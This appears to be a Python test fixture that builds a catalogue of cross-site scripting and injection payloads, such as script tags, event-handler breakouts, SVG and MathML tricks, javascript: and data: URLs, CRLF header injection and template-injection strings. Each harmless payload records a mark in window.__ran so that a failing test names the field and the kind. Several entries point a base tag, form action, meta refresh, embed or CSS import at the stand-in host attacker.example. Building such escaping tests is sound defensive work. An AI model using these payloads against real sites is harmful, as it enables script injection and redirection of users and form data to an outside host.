"""Texts that would run, plant or break something if a page took them for more than text.

What runs tells `window.__ran` its mark, so that a failure names the field and the kind.
"""

ELSEWHERE = "http://attacker.example"
RUN = "__ran.push(/{mark}/.source)"
KINDS = {
    "script": "<script>{run}</script>",
    "event": "<img src=/x onerror={run}>",
    "svg": "<svg onload={run}><animate onbegin={run} attributeName=x dur=1s /></svg>",
    "foreign": "<svg><foreignObject><body onload={run}></body></foreignObject></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src=/x onerror={run}></style></math>",
    "double-quote": '" autofocus tabindex=1 onfocus={run} onmouseover={run} data-x="',
    "single-quote": "' autofocus tabindex=1 onfocus={run} data-x='",
    "no-quote": " onfocus={run} autofocus tabindex=1 ",
    "backtick": "`><img src=/x onerror={run}>`",
    "title": "</title><script>{run}</script>",
    "closing-script": "</script><script>{run}</script>",
    "textarea": "</textarea></noscript></option></select><img src=/x onerror={run}>",
    "style": "</style><style>@import '//attacker.example/s';</style><img src=/x onerror={run}>",
    "comment": "--><!-- --!><script>{run}</script>",
    "cdata": "]]><script xmlns='http://www.w3.org/1999/xhtml'>{run}</script>",
    "xml": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
    "entities": "&lt;script&gt;{run}&lt;/script&gt;&#60;img src=/x onerror={run}&#62;",
    "control": "<scr\x00ipt>{run}</script><\x0cscript>{run}</script>",
    "frame": "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "object": f"<object data='{ELSEWHERE}/o'></object><embed src='{ELSEWHERE}/e'>",
    "base": f"<base href='{ELSEWHERE}/'><form action='{ELSEWHERE}/f'><button autofocus>x</button>",
    "refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/r'>",
    "braces": "قوس{{{{7*7}}}}قوس قوس${{7*7}}قوس {{% raw %}} <%=7*7%> #{{7*7}}",
    "bidi": "\u202eمقلوب\u2067 abc \u2066 123 \u202d",
    "javascript": "javascript:{run}//",
    "hidden-javascript": " \tJaVa\nScRiPt\t:{run}//",
    "data": "data:text/html,<script>parent.{run}</script>",
    "vbscript": "vbscript:{run}",
    "separators": "\u2028\u2029\r\nset-cookie: a=b\r\n\r\n<script>{run}</script>",
}
"""Each with a place for what it runs, if it can."""


def attack(kind: str, mark: str) -> str:
    """Return a text of a kind; the mark is part of it, and shown where the text is."""
    return f"{KINDS[kind].format(run=RUN.format(mark=mark))} ({mark})"
